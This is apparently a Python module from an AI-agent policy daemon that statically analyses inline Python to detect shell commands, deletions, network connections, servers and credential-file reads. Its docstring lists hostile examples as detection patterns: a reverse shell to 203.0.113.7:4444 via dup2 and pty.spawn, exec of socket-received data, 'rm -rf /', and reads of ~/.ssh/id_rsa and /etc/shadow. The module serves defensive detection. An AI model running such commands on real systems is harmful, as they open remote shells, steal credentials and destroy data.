"""Inline Python read with the standard library's :mod:`ast`, with a little data flow, for
:func:`core.policy._pycode.scan_code` (which documents the effect kinds returned).

What the data flow resolves (shapes)::

    c = "/bin/sh"; os.system(c)                      names assigned literals (all candidates, in order)
    os.system("rm -rf " + d)                         concatenation; an unknown part is the unknown mark
    os.system(f"rm -rf {p}/x"), "%s" % x, "a".join(...), "hs/nib/"[::-1]
    import subprocess as sp; sp.run([...])            import aliases, ``from os import system as s``
    getattr(os, "sys" + "tem")("id"), __import__("os").system(…), importlib.import_module("os")
    vars(os)["system"], os.__dict__["system"], sys.modules["os"]
    exec("import os; os.system('reboot')")           a literal executed is read as Python again (bounded)
    subprocess.run(["rm", "-rf", "/"]), subprocess.Popen("…", shell=True)
    s = socket.socket(); s.connect(("203.0.113.7", 4444)); os.dup2(s.fileno(), 0); pty.spawn("/bin/sh")
    exec(s.recv(1024)), os.system(c.recv(99).decode())        running what a socket received
    HTTPServer(("0.0.0.0", 8000), partial(SimpleHTTPRequestHandler, directory="/")).serve_forever()
    open(Path.home() / ".ssh" / "id_rsa").read(), Path("/etc/shadow").read_text()

Decoded data (``b64decode("…")``) is not decoded: it stays unknown, and :func:`core.policy._pycode.code_runs_data`
calls running it HIGH, as tiers.md has it for ``base64 -d | sh``.

Guards: a text is parsed only when it is at most :data:`MAX_TEXT` characters, its estimated token count fits
the budget (:data:`MAX_TOKENS`, shared by the texts ``exec`` reads) and its brackets nest at most
:data:`MAX_NEST` deep; :class:`SyntaxError`, :class:`RecursionError`, :class:`MemoryError` and
:class:`ValueError` (NUL bytes, lone surrogates) mean "not read" (None), and the caller falls back to the linear
scan. The tree walk is iterative and bounded (:data:`MAX_NODES`); values are bounded (:data:`MAX_STR`,
:data:`MAX_CAND` candidates per name).
"""

from __future__ import annotations

import ast
import warnings

from core.policy._paths import UNKNOWN_MARK as MARK

#: characters parsed at most in one text
MAX_TEXT = 16384
#: estimated tokens (words plus punctuation) parsed at most over one reading, texts given to ``exec`` included
#: (parsing costs a few microseconds a token: this keeps the worst text within a few milliseconds)
MAX_TOKENS = 1200
#: bracket nesting parsed at most
MAX_NEST = 100
#: ``exec`` of a literal inside ``exec`` of a literal … read at most this deep
MAX_EXEC_DEPTH = 3
#: tree nodes visited at most over one reading
MAX_NODES = 20000
#: longest string value built (concatenation, repetition, formatting)
MAX_STR = 4096
#: candidate values kept for one name or expression
MAX_CAND = 4
#: effects returned at most
MAX_EFFECTS = 128
#: expression nesting evaluated at most
MAX_EVAL_DEPTH = 48

_PUNCT = "(),.;=[]{}:+-*/%<>|&~^@"
#: the file name texts are parsed under: the compiler's warnings about them (``"\d"``: invalid escape
#: sequence) are the agent's code's business, not the daemon's log's (one filter, for this name only)
FILENAME = "<signoff-inline-code>"
warnings.filterwarnings("ignore", module=FILENAME.replace("<", r"\<").replace(">", r"\>"))


class _Unknown:
    __slots__ = ()

    def __repr__(self) -> str:
        return "<unknown>"


_U = _Unknown()


class Mod(str):
    """A module or a name inside one, by its dotted path (``os.system``); also names never assigned."""

    __slots__ = ()


class PathV(str):
    """A :class:`pathlib.Path` value (its text)."""

    __slots__ = ()


class Sock:
    """A socket object (``socket.socket()``, ``create_connection(…)``, ``s.accept()[0]``)."""

    __slots__ = ()


class Recv:
    """Data that came from a socket (``s.recv(1024)``, ``s.makefile().readline()`` and what is built from it)."""

    __slots__ = ()


class FD:
    """``X.fileno()``: ``sock`` tells whether X is a socket."""

    __slots__ = ("sock",)

    def __init__(self, sock: bool):
        self.sock = sock


class Meth:
    """A method of a value (``s.connect``, ``"x".join``, ``unknown.execSync``)."""

    __slots__ = ("base", "name")

    def __init__(self, base, name: str):
        self.base = base
        self.name = name


_SOCK = Sock()
_RECV = Recv()

# ------------------------------------------------------------------------------------------- tables
#: Python calls by their dotted name -> how their arguments are read:
#:   cmd      a shell command (one string) or program and arguments (a list)
#:   sp       subprocess style: a string or a list; ``stdin=``/``stdout=`` a socket ties them to it
#:   argv_s   program and arguments as separate strings (``asyncio.create_subprocess_exec``)
#:   exec_l   program path, then its argv as strings (``os.execl``); ``spawn_l``: a mode first
#:   exec_v   program path, then its argv as a list (``os.execv``); ``spawn_v``: a mode first
#:   pty      ``pty.spawn``: a program name or an argv list
#:   rmtree, delete, write, read   the first argument is the path; ``open``/``os_open``: by the mode or flags
#:   copy     read the first, write the second; ``move``: delete the first, write the second
#:   write2   write the second argument (``os.symlink(src, dst)``)
#:   pycode   Python code (``exec``, ``eval``, ``compile``)
#:   connect  a socket connection to the address in the first argument; ``sendto``: in the second
#:   http     a web client given a URL first (``urlopen``, ``requests.post``): the connection is "SCHEME://HOST",
#:            what it returns is received data; ``connect_hp``: a client given a host and port (``smtplib.SMTP``)
#:   bind     a listening address (``s.bind((h, p))``); ``listen``: a listening socket or server
#:   server   a server bound to the address in its first argument (``HTTPServer((h, p), H)``)
#:   dup2     ``os.dup2(fd, n)``: with a socket's descriptor, standard input/output tied to the socket
#:   chdir    the working directory (a server started later serves it)
#:   partial  ``functools.partial(Handler, directory=…)``: the directory a server serves
PY_CALLS: dict[str, str] = {
    "os.system": "cmd", "os.popen": "cmd", "os.popen2": "cmd", "os.popen3": "cmd", "os.popen4": "cmd",
    "commands.getoutput": "cmd", "commands.getstatusoutput": "cmd", "platform.popen": "cmd",
    "subprocess.run": "sp", "subprocess.call": "sp", "subprocess.check_call": "sp", "subprocess.check_output": "sp",
    "subprocess.Popen": "sp", "subprocess.getoutput": "cmd", "subprocess.getstatusoutput": "cmd",
    "asyncio.create_subprocess_shell": "cmd", "asyncio.create_subprocess_exec": "argv_s",
    "os.execl": "exec_l", "os.execlp": "exec_l", "os.execle": "exec_l", "os.execlpe": "exec_l",
    "os.execv": "exec_v", "os.execvp": "exec_v", "os.execve": "exec_v", "os.execvpe": "exec_v",
    "os.spawnl": "spawn_l", "os.spawnlp": "spawn_l", "os.spawnle": "spawn_l", "os.spawnlpe": "spawn_l",
    "os.spawnv": "spawn_v", "os.spawnvp": "spawn_v", "os.spawnve": "spawn_v", "os.spawnvpe": "spawn_v",
    "os.posix_spawn": "exec_v", "os.posix_spawnp": "exec_v", "pty.spawn": "pty",
    "shutil.rmtree": "rmtree", "os.remove": "delete", "os.unlink": "delete", "os.rmdir": "delete",
    "os.removedirs": "delete", "shutil.copy": "copy", "shutil.copy2": "copy", "shutil.copyfile": "copy",
    "shutil.copytree": "copy", "shutil.move": "move", "os.rename": "move", "os.replace": "move",
    "os.renames": "move", "os.symlink": "write2", "os.link": "write2", "os.chmod": "write", "os.chown": "write",
    "os.lchown": "write", "os.truncate": "write", "os.mkdir": "write", "os.makedirs": "write",
    "os.mkfifo": "write", "os.mknod": "write",
    "open": "open", "io.open": "open", "codecs.open": "open", "os.open": "os_open", "io.FileIO": "open",
    "exec": "pycode", "eval": "pycode", "compile": "pycode",
    "socket.create_connection": "connect", "socket.connect": "connect", "socket.connect_ex": "connect",
    "socket.sendto": "sendto", "socket.bind": "bind", "socket.listen": "listen", "socket.accept": "listen",
    "socket.create_server": "server", "telnetlib.Telnet": "connect_hp",
    "urllib.request.urlopen": "http", "urllib.request.Request": "http", "urllib.request.urlretrieve": "http",
    "urllib2.urlopen": "http", "http.client.HTTPConnection": "http", "http.client.HTTPSConnection": "http",
    "smtplib.SMTP": "connect_hp", "smtplib.SMTP_SSL": "connect_hp", "ftplib.FTP": "connect_hp",
    "ftplib.FTP_TLS": "connect_hp",
    "requests.get": "http", "requests.post": "http", "requests.put": "http", "requests.patch": "http",
    "requests.delete": "http", "requests.head": "http", "requests.request": "http", "httpx.get": "http",
    "httpx.post": "http", "httpx.put": "http", "httpx.patch": "http", "httpx.request": "http",
    "http.server.HTTPServer": "server", "http.server.ThreadingHTTPServer": "server",
    "socketserver.TCPServer": "server", "socketserver.ThreadingTCPServer": "server",
    "socketserver.ForkingTCPServer": "server", "socketserver.UDPServer": "server",
    "socketserver.ThreadingUDPServer": "server", "xmlrpc.server.SimpleXMLRPCServer": "server",
    "SimpleHTTPServer.test": "listen", "http.server.test": "listen", "BaseHTTPServer.HTTPServer": "server",
    "SocketServer.TCPServer": "server", "wsgiref.simple_server.make_server": "server",
    "asyncio.start_server": "server", "asyncio.start_unix_server": "listen",
    "os.dup2": "dup2", "os.chdir": "chdir", "functools.partial": "partial", "pexpect.spawn": "cmd",
    "pexpect.run": "cmd",
}
#: methods of :class:`pathlib.Path` values -> how (the path is the value's)
PATH_METHODS = {
    "read_text": "read", "read_bytes": "read", "open": "open", "write_text": "write", "write_bytes": "write",
    "touch": "write", "mkdir": "write", "chmod": "write", "symlink_to": "write", "hardlink_to": "write",
    "unlink": "delete", "rmdir": "delete", "rename": "move", "replace": "move",
}
#: methods of sockets whose result is what the socket received
_RECV_METHODS = frozenset(("recv", "recvfrom", "recv_into", "recvmsg", "makefile", "read", "readline",
                           "readlines", "readall", "getvalue"))
#: the names of modules some spell differently
_MODULE_ALIASES = {"posix": "os", "nt": "os", "builtins": "", "__builtins__": "", "__builtin__": ""}
#: functions whose value is a path or module the reader follows
_PATH_CALLS = frozenset(("pathlib.Path", "pathlib.PurePath", "pathlib.PosixPath", "pathlib.PurePosixPath", "Path",
                         "PurePath", "PosixPath"))
_HOME_CALLS = frozenset(("pathlib.Path.home", "Path.home", "os.path.expanduser", "os.path.expandvars"))
_SOCKET_CALLS = frozenset(("socket.socket", "socket.create_connection", "socket.fromfd", "socket.socketpair",
                           "ssl.wrap_socket", "socket.create_server"))
#: names of the generic table of :mod:`core.policy._pycode` that, as methods of other objects, are something
#: else in Python (``f.write(…)`` of a file object, ``list.remove``, ``cursor.execute("SELECT …")``,
#: ``asyncio.run``): read only as methods of the owners below, or (code of unknown language) of unknown objects
_NOT_GENERIC = frozenset(("write", "delete", "remove", "open", "call", "run", "execute", "spawn", "rm", "unlink",
                          "rmdir", "exec"))
_NOT_GENERIC_ANY = frozenset(("write", "delete", "remove", "open"))
_GENERIC_OWNERS = frozenset(("File", "FileUtils", "fs", "Deno", "child_process", "cp", "IO", "Open3", "Kernel",
                             "os", "io", "fsPromises", "Bun", "shell", "sh"))
_WRITE_FLAGS = frozenset(("O_WRONLY", "O_RDWR", "O_CREAT", "O_APPEND", "O_TRUNC"))
_KNOWN = frozenset(PY_CALLS) | _PATH_CALLS | _HOME_CALLS | _SOCKET_CALLS


#: the fields of each node type that may hold nodes worth visiting; nodes with nothing to read below them
_FIELDS: dict = {}
_LEAVES = frozenset((ast.Name, ast.Constant, ast.Pass, ast.Break, ast.Continue, ast.alias))


def read_python(code: str, lang: str | None = None) -> list | None:
    """The effects of ``code`` read as Python (see :mod:`core.policy._pycode`), or None when it is not read:
    too long, too many tokens, too nested, or it does not parse (the caller then scans it linearly).

    ``lang`` None (the language is not known, as for code actions): calls that look like another language's
    (``require("child_process").execSync("…")``) are read by their names too, and a literal given to
    ``exec``/``eval`` is also read as a shell command (Ruby's and Perl's ``exec`` run commands)."""
    r = _Reader(lang)
    try:
        if not r.read_text(code, 0):
            return None
        r.finish()
    except (RecursionError, MemoryError, ValueError, TypeError, OverflowError, AttributeError, IndexError,
            KeyError):
        return None  # (defensive: the reader is not supposed to raise on any tree)
    return r.out


def _cost(code: str) -> int:
    """Estimated tokens: whitespace-separated words plus punctuation characters."""
    return len(code.split()) + sum(map(code.count, _PUNCT))


def _too_nested(code: str) -> bool:
    if code.count("(") + code.count("[") + code.count("{") <= MAX_NEST:
        return False
    depth = 0
    for ch in code:
        if ch in "([{":
            depth += 1
            if depth > MAX_NEST:
                return True
        elif ch in ")]}":
            depth -= 1
    return False


def parse(code: str, budget: int = MAX_TOKENS) -> tuple[ast.Module | None, int]:
    """``(tree, cost)``: the module parsed, or None when refused or unparseable (cost: tokens estimated)."""
    if len(code) > MAX_TEXT:
        return None, 0
    cost = _cost(code)
    if cost > budget or _too_nested(code):
        return None, cost
    try:
        return ast.parse(code, FILENAME), cost
    except (SyntaxError, RecursionError, MemoryError, ValueError, OverflowError):
        return None, cost


class _Reader:
    def __init__(self, lang: str | None):
        self.lang = lang
        self.env: dict[str, list] = {}
        self.star: list[str] = []  # modules imported with *
        self.out: list = []
        self.tokens = MAX_TOKENS
        self.nodes = MAX_NODES
        self.chdirs: list[str] = []
        self.listens = False
        self.dup_unknown = False  # os.dup2(X.fileno(), 0) of an X not known to be a socket

    # ------------------------------------------------------------------ reading
    def read_text(self, code: str, depth: int) -> bool:
        tree, cost = parse(code, self.tokens)
        self.tokens -= cost
        if tree is None:
            return False
        self.walk(tree, depth)
        return True

    def add(self, kind: str, val) -> None:
        if len(self.out) < MAX_EFFECTS:
            self.out.append((kind, val))

    def finish(self) -> None:
        if self.dup_unknown and any(k in ("connect", "listen") for k, _ in self.out):
            self.add("stdio_socket", "os.dup2")
        if self.listens and self.chdirs:
            self.add("serve", self.chdirs[-1])

    def walk(self, tree: ast.AST, depth: int) -> None:
        """Pre-order, in source order; assignments bind names before later statements are read."""
        stack = [tree]
        AST = ast.AST
        while stack:
            node = stack.pop()
            self.nodes -= 1
            if self.nodes < 0:
                return
            t = type(node)
            if t is ast.Call:
                self.call(node, depth)
            elif t is ast.Assign:
                vals = self.ev(node.value)
                for tg in node.targets:
                    self.bind(tg, vals)
            elif t is ast.AnnAssign or t is ast.NamedExpr:
                if node.value is not None:
                    self.bind(node.target, self.ev(node.value))
            elif t is ast.AugAssign:
                self.bind(node.target, self.ev(ast.BinOp(_load(node.target), node.op, node.value)))
            elif t is ast.Import:
                for a in node.names:
                    if a.asname:
                        self.env[a.asname] = [Mod(_canon(a.name))]
                    else:
                        top = a.name.split(".")[0]
                        self.env[top] = [Mod(_canon(top))]
            elif t is ast.ImportFrom:
                if not node.level and node.module:
                    for a in node.names:
                        if a.name == "*":
                            self.star.append(node.module)
                        else:
                            self.env[a.asname or a.name] = [Mod(_canon(f"{node.module}.{a.name}"))]
            elif t is ast.For or t is ast.AsyncFor or t is ast.comprehension:
                self.bind(node.target, self.items(node.iter))
            elif t is ast.withitem:
                if node.optional_vars is not None:
                    self.bind(node.optional_vars, self.ev(node.context_expr))
            children = []
            fields = _FIELDS.get(t)
            if fields is None:
                fields = _FIELDS[t] = tuple(f for f in t._fields if f not in ("ctx", "op", "ops", "type_comment"))
            for f in fields:
                v = getattr(node, f, None)
                if type(v) is list:
                    for x in v:
                        if isinstance(x, AST) and type(x) not in _LEAVES:
                            children.append(x)
                elif isinstance(v, AST) and type(v) not in _LEAVES:
                    children.append(v)
            if t is ast.ListComp or t is ast.SetComp or t is ast.GeneratorExp or t is ast.DictComp:
                # the loops bind the names the element uses: read them first
                n = len(node.generators)
                children = children[-n:] + children[:-n]
            children.reverse()
            stack.extend(children)

    def bind(self, target: ast.AST, vals: list) -> None:
        t = type(target)
        if t is ast.Name:
            old = self.env.get(target.id)
            if old and not isinstance(old[0], Mod):
                merged = list(vals)
                for v in old:
                    if len(merged) >= MAX_CAND:
                        break
                    if not any(v is m or (type(v) is type(m) and v == m) for m in merged if not _opaque(m)):
                        merged.append(v)
                self.env[target.id] = merged[:MAX_CAND]
            else:
                self.env[target.id] = list(vals)[:MAX_CAND]
        elif t is ast.Tuple or t is ast.List:
            v = vals[0] if len(vals) == 1 else _U
            if type(v) in (list, tuple) and len(v) == len(target.elts):
                for tg, x in zip(target.elts, v, strict=True):
                    self.bind(tg, [x])
            else:
                for tg in target.elts:
                    self.bind(tg, [_RECV] if v is _RECV else [_U])
        elif t is ast.Starred:
            self.bind(target.value, [_U])

    def items(self, node: ast.AST) -> list:
        """The values a ``for`` loop takes from ``node`` (literal lists, tuples, ranges)."""
        out: list = []
        for v in self.ev(node):
            if type(v) in (list, tuple):
                out.extend(v[:MAX_CAND])
            elif v is _RECV or isinstance(v, Sock):
                out.append(_RECV)
            else:
                out.append(_U)
        return out[:MAX_CAND] or [_U]

    # --------------------------------------------------------------- evaluation
    def ev(self, node, d: int = 0) -> list:
        """Candidate values of an expression (never empty; :data:`_U` for unknown)."""
        if node is None:
            return [None]
        if d > MAX_EVAL_DEPTH:
            return [_U]
        t = type(node)
        if t is ast.Constant:
            return [node.value]
        if t is ast.Name:
            v = self.env.get(node.id)
            return v if v else [Mod(node.id)]
        if t is ast.JoinedStr:
            parts = []
            for p in node.values:
                if type(p) is ast.Constant:
                    parts.append(str(p.value))
                elif type(p) is ast.FormattedValue:
                    parts.append(_text(self.ev(p.value, d + 1)[0]))
                else:
                    parts.append(MARK)
            s = "".join(parts)
            return [s[:MAX_STR]]
        if t is ast.BinOp:
            return self.binop(node, d)
        if t is ast.UnaryOp:
            v = self.ev(node.operand, d + 1)[0]
            if type(node.op) is ast.USub and type(v) is int:
                return [-v]
            return [_RECV] if v is _RECV else [_U]
        if t is ast.Attribute:
            out = []
            for b in self.ev(node.value, d + 1)[:MAX_CAND]:
                out.append(_RECV if b is _RECV else _attr(b, node.attr))  # (requests.get(u).text: received)
            return out
        if t is ast.Call:
            return self.ev_call(node, d)
        if t is ast.Subscript:
            return self.subscript(node, d)
        if t is ast.List or t is ast.Tuple or t is ast.Set:
            vals = []
            for e in node.elts[:64]:
                if type(e) is ast.Starred:
                    inner = self.ev(e.value, d + 1)[0]
                    if type(inner) in (list, tuple):
                        vals.extend(inner)
                    else:
                        vals.append(_U)
                else:
                    vals.append(self.ev(e, d + 1)[0])
            return [tuple(vals) if t is ast.Tuple else vals]
        if t is ast.BoolOp:
            out = []
            for v in node.values:
                out.extend(self.ev(v, d + 1))
            return _cands(out)
        if t is ast.IfExp:
            return _cands(self.ev(node.body, d + 1) + self.ev(node.orelse, d + 1))
        if t is ast.NamedExpr:
            vals = self.ev(node.value, d + 1)
            self.bind(node.target, vals)
            return vals
        if t is ast.Await or t is ast.Starred:
            return self.ev(node.value, d + 1)
        return [_U]

    def binop(self, node: ast.BinOp, d: int) -> list:
        lefts = self.ev(node.left, d + 1)[:2]
        rights = self.ev(node.right, d + 1)[:2]
        op = type(node.op)
        out = []
        for a in lefts:
            for b in rights:
                out.append(_binop(op, a, b))
        return _cands(out)

    def subscript(self, node: ast.Subscript, d: int) -> list:
        out = []
        sl = node.slice
        for b in self.ev(node.value, d + 1)[:2]:
            if b is _RECV:
                out.append(_RECV)
                continue
            if type(sl) is ast.Slice and not isinstance(b, Mod):
                lo, hi, st = (self.ev(x, d + 1)[0] if x is not None else None for x in (sl.lower, sl.upper, sl.step))
                if isinstance(b, str | bytes | list | tuple) and all(
                        x is None or (type(x) is int and -MAX_STR <= x <= MAX_STR and x != 0) for x in (lo, hi, st)):
                    out.append(b[lo:hi:st])
                else:
                    out.append(_U)
                continue
            k = self.ev(sl, d + 1)[0]
            if isinstance(b, Mod):
                if b == "os.environ":
                    out.append(_env_value(k))
                elif b.endswith(".__dict__") and type(k) is str:
                    out.append(Mod(_canon(b[:-9] + "." + k)))
                elif b in ("sys.modules", "globals", "locals") and type(k) is str:
                    out.append(Mod(_canon(k)))
                else:
                    out.append(_U)
            elif isinstance(b, str | bytes | list | tuple) and type(k) is int and -len(b) <= k < len(b):
                out.append(b[k])
            else:
                out.append(_U)
        return _cands(out)

    def ev_call(self, node: ast.Call, d: int) -> list:
        funcs = self.ev(node.func, d + 1)[:2]
        out = []
        for f in funcs:
            out.append(self.call_value(f, node, d))
        return _cands(out)

    def call_value(self, f, node: ast.Call, d: int):
        """The value a call returns, for the calls the data flow follows."""
        args = node.args
        if f is _RECV:
            return _RECV  # urlopen(u).read(), s.makefile().readline()
        if isinstance(f, Meth):
            b, name = f.base, f.name
            if isinstance(b, Sock):
                if name in _RECV_METHODS:
                    return _RECV
                if name == "fileno":
                    return FD(True)
                if name == "accept":
                    return (_SOCK, _U)
                if name in ("wrap_socket", "dup"):
                    return _SOCK
                return _U
            if b is _RECV:
                return _RECV
            if isinstance(b, PathV):
                if name in ("expanduser", "resolve", "absolute", "joinpath", "with_name", "with_suffix"):
                    if name == "joinpath":
                        return _join(b, *(self.ev(a, d + 1)[0] for a in args[:8]))
                    return b
                return _U
            if isinstance(b, str | bytes):
                return _str_method(b, name, [self.ev(a, d + 1)[0] for a in args[:8]], node, self, d)
            if name == "fileno":
                return FD(False)
            if isinstance(b, Mod):
                f = Mod(_canon(b + "." + name))
            else:
                return _U
        if not isinstance(f, Mod):
            return _U
        name = self.resolve(f)
        if name in ("__import__", "importlib.import_module", "importlib.__import__"):
            v = self.ev(args[0], d + 1)[0] if args else _U
            return Mod(_canon(v.split(".")[0] if name == "__import__" and not node.keywords and type(v) is str
                              and len(args) == 1 else v)) if type(v) is str else _U
        if name == "getattr" and len(args) >= 2:
            b = self.ev(args[0], d + 1)[0]
            k = self.ev(args[1], d + 1)[0]
            return _attr(b, k) if type(k) is str else _U
        if name == "vars" and args:
            b = self.ev(args[0], d + 1)[0]
            return Mod(b + ".__dict__") if isinstance(b, Mod) else _U
        if name in ("globals", "locals"):
            return Mod(name)
        if name in _SOCKET_CALLS:
            return _SOCK
        if PY_CALLS.get(name) == "http":
            return _RECV  # a response: what it holds came from the network
        if name in _PATH_CALLS:
            vals = [self.ev(a, d + 1)[0] for a in args[:8]]
            return _join(PathV(""), *vals) if vals else PathV(".")
        if name in _HOME_CALLS:
            if not args:
                return PathV("~")
            v = self.ev(args[0], d + 1)[0]
            return v if isinstance(v, str) else _U
        if name in ("os.getenv", "os.environ.get"):
            return _env_value(self.ev(args[0], d + 1)[0]) if args else _U
        if name in ("os.path.join", "posixpath.join"):
            vals = [self.ev(a, d + 1)[0] for a in args[:8]]
            return _join("", *vals) if vals else _U
        if name in ("str", "bytes", "bytearray") and args:
            v = self.ev(args[0], d + 1)[0]
            if v is _RECV:
                return _RECV
            if name == "str" and isinstance(v, str | int | float):
                return str(v)
            return v if isinstance(v, str | bytes) else _U
        if name == "chr" and args:
            v = self.ev(args[0], d + 1)[0]
            return chr(v) if type(v) is int and 0 <= v < 0x110000 else _U
        if any(self.ev(a, d + 1)[0] is _RECV for a in args[:4]):
            return _RECV  # what is built from received data is received data
        return _U

    def resolve(self, f: Mod) -> str:
        name = str(f)
        if name in PY_CALLS or "." in name:
            return name
        for m in self.star:
            full = _canon(f"{m}.{name}")
            if full in _KNOWN:
                return full
        return name

    # ------------------------------------------------------------------ effects
    def call(self, node: ast.Call, depth: int) -> None:
        for f in self.ev(node.func)[:2]:
            self.call_effect(f, node, depth)

    def call_effect(self, f, node: ast.Call, depth: int) -> None:
        base = None
        if isinstance(f, Meth):
            b, name = f.base, f.name
            if isinstance(b, Sock):
                kind = PY_CALLS.get("socket." + name)
                dotted = "socket." + name
            elif isinstance(b, PathV):
                kind = PATH_METHODS.get(name)
                base = str(b)
                dotted = "pathlib.Path." + name
            elif b is _U:
                dotted = "?." + name  # a method of an object the reader does not know
                kind = None
            else:
                return  # methods of strings and of received data
        elif isinstance(f, Mod):
            dotted = self.resolve(f)
            kind = PY_CALLS.get(dotted)
        else:
            return
        args = node.args
        kw = {k.arg: k.value for k in node.keywords if k.arg}
        if kind is None:
            self.generic(dotted, node)
            return
        if base is not None:  # a Path method: the path is the value's
            if kind == "read":
                self.add("read", base)
            elif kind == "write":
                self.add("write", base)
            elif kind == "delete":
                self.add("delete", base)
            elif kind == "open":
                mode = self.first(args[0] if args else kw.get("mode"))
                self.add("write" if _writes(mode) else "read", base)
            elif kind == "move":
                self.add("delete", base)
                for p in self.strs(args[0] if args else kw.get("target")):
                    self.add("write", p)
            return
        a0 = args[0] if args else None
        if kind in ("cmd", "sp"):
            self.command(dotted, a0 if a0 is not None else kw.get("args") or kw.get("cmd"), kind == "sp")
            if kind == "sp":
                for k in ("stdin", "stdout", "stderr"):
                    if k in kw and self.is_sock(kw[k]):
                        self.add("stdio_socket", f"{_short(dotted)}({k}=socket)")
                        break
        elif kind == "argv_s":
            words = [self.first(a) for a in args[:32]]
            self.argv(dotted, words)
        elif kind in ("exec_l", "spawn_l", "exec_v", "spawn_v", "pty"):
            rest = list(args[1:] if kind in ("spawn_l", "spawn_v") else args)
            if not rest:
                return
            path = self.first(rest[0])
            if kind in ("exec_l", "spawn_l"):
                words = [path] + [self.first(a) for a in rest[2:33]]
                if kind == "exec_l" and dotted.endswith("e"):
                    words = words[:-1] if len(words) > 1 else words  # the environment, last
            elif kind == "pty":
                v = self.first(rest[0])
                words = list(v) if type(v) in (list, tuple) else [v]
            else:
                lst = self.first(rest[1]) if len(rest) > 1 else None
                words = [path] + (list(lst[1:]) if type(lst) in (list, tuple) else [])
            self.argv(dotted, words)
        elif kind in ("rmtree", "delete", "write", "read"):
            target = a0 if a0 is not None else kw.get("path")
            vals = self.strs(target)
            if not vals and kind == "rmtree" and target is not None:
                self.add("rmtree", None)
            for p in vals:
                self.add(kind, p)
        elif kind == "open":
            mode = self.first(args[1] if len(args) > 1 else kw.get("mode"))
            for p in self.strs(a0 if a0 is not None else kw.get("file")):
                self.add("write" if _writes(mode) else "read", p)
        elif kind == "os_open":
            flags = args[1] if len(args) > 1 else kw.get("flags")
            w = flags is not None and any(type(n) is ast.Attribute and n.attr in _WRITE_FLAGS or
                                          type(n) is ast.Name and n.id in _WRITE_FLAGS for n in ast.walk(flags))
            for p in self.strs(a0):
                self.add("write" if w else "read", p)
        elif kind in ("copy", "move", "write2"):
            src = self.strs(a0)
            dst = self.strs(args[1] if len(args) > 1 else kw.get("dst"))
            if kind == "copy":
                for p in src:
                    self.add("read", p)
            elif kind == "move":
                for p in src:
                    self.add("delete", p)
            for p in dst:
                self.add("write", p)
        elif kind == "pycode":
            self.pycode(a0, depth)
        elif kind in ("connect", "sendto"):
            a = args[1] if kind == "sendto" and len(args) > 1 else a0
            self.add("connect", self.address(a))
        elif kind == "http":
            u = args[1] if dotted.endswith(".request") and len(args) > 1 else a0  # request(method, url)
            self.add("connect", self.web(u if u is not None else kw.get("url"), args[1] if len(args) > 1 and not
                                         dotted.endswith(".request") else kw.get("port")))
        elif kind == "connect_hp":
            self.add("connect", self.host(a0 if a0 is not None else kw.get("host"),
                                          args[1] if len(args) > 1 else kw.get("port")))
        elif kind == "bind":
            self.listen(self.address(a0))
        elif kind == "listen":
            if not any(k == "listen" for k, _ in self.out):
                self.listen(self.host(kw.get("bind"), kw.get("port")) if kw else None)
            else:
                self.listens = True
        elif kind == "server":
            addr = self.address(a0) if a0 is not None and type(a0) is ast.Tuple else self.host(
                args[1] if len(args) > 1 and dotted.startswith("asyncio") else kw.get("host"),
                args[2] if len(args) > 2 and dotted.startswith("asyncio") else kw.get("port"))
            self.listen(addr)
            self.serves(node)
        elif kind == "dup2":
            fd = self.first(a0)
            if isinstance(fd, FD):
                if fd.sock:
                    self.add("stdio_socket", "os.dup2")
                else:
                    self.dup_unknown = True
            elif type(fd) is int and fd > 2:
                self.dup_unknown = True
        elif kind == "chdir":
            for p in self.strs(a0):
                self.chdirs.append(p)
        elif kind == "partial":
            self.serves(node)

    def generic(self, dotted: str, node: ast.Call) -> None:
        """A call the Python tables do not know: read by its last name with the generic table of
        :mod:`core.policy._pycode` (``require("child_process").execSync("…")``, ``File.write("…")``)."""
        from core.policy._pycode import CODE_CALLS

        parts = dotted.rsplit(".", 1)
        name = parts[-1]
        owner = parts[0] if len(parts) == 2 else ""
        kind = CODE_CALLS.get(name)
        if kind is None:
            if name == "serve_forever":
                self.listen(None)
            elif name == "connect" and node.args:
                # an object not known to be a socket: a (host, port) pair, or (code of unknown language)
                # net.connect(4444, "h")
                v = self.first(node.args[0])
                if type(v) is tuple and len(v) == 2 and type(v[0]) is str and type(v[1]) is int:
                    self.add("connect", self.address(node.args[0]))
                elif self.lang is None and len(node.args) >= 2:
                    addr = self.host(node.args[0], node.args[1])
                    if addr and ":" in addr:
                        self.add("connect", addr)
            return
        if owner not in _GENERIC_OWNERS and (
                name in _NOT_GENERIC_ANY if self.lang is None else name in _NOT_GENERIC):
            return
        args = node.args
        if not args:
            return
        vals = [self.first(a) for a in args[:32]]
        first = vals[0]
        if kind == "cmd":
            if type(first) in (list, tuple):
                self.argv(dotted, list(first))
            elif len(vals) > 1 and all(type(v) is str for v in vals):
                self.argv(dotted, vals)
            else:
                self.command(dotted, args[0], False)
        elif kind == "prog_list":
            rest = vals[1] if len(vals) > 1 and type(vals[1]) in (list, tuple) else []
            self.argv(dotted, [first] + list(rest))
        elif kind == "path_argv":
            rest = []
            for v in vals[1:]:
                rest.extend(v if type(v) in (list, tuple) else [v])
            self.argv(dotted, [first] + rest[1:] if rest else [first])
        elif type(first) is str:
            if kind == "rm_opts":
                rec = any(k.arg == "recursive" and self.first(k.value) is True for k in node.keywords) or any(
                    type(a) is ast.Dict and any(type(k) is ast.Constant and k.value == "recursive"
                                                for k in a.keys) for a in args[1:])
                self.add("rmtree" if rec else "delete", first)
            elif kind in ("rmtree", "delete", "write"):
                self.add(kind, first)

    # ------------------------------------------------------------------ helpers
    def first(self, node):
        if node is None:
            return None
        return self.ev(node)[0]

    def strs(self, node) -> list[str]:
        """The literal path or text values of ``node`` (unknown parts as the unknown mark)."""
        if node is None:
            return []
        out = []
        for v in self.ev(node):
            if isinstance(v, bytes):
                v = v.decode("utf-8", "replace")
            if isinstance(v, str) and not isinstance(v, Mod) and v:
                out.append(str(v))
        return out

    def is_sock(self, node) -> bool:
        v = self.first(node)
        return isinstance(v, Sock) or (isinstance(v, FD) and v.sock)

    def command(self, dotted: str, node, shellish: bool) -> None:
        if node is None:
            return
        for v in self.ev(node)[:MAX_CAND]:
            if isinstance(v, bytes):
                v = v.decode("utf-8", "replace")
            if type(v) in (list, tuple):
                self.argv(dotted, list(v))
            elif isinstance(v, str) and not isinstance(v, Mod):
                if v.strip(MARK + " "):
                    self.add("shell", str(v))
                else:
                    self.add("run_dynamic", _short(dotted))
            elif v is _RECV:
                self.add("run_received", _short(dotted))
            else:
                self.add("run_dynamic", _short(dotted))

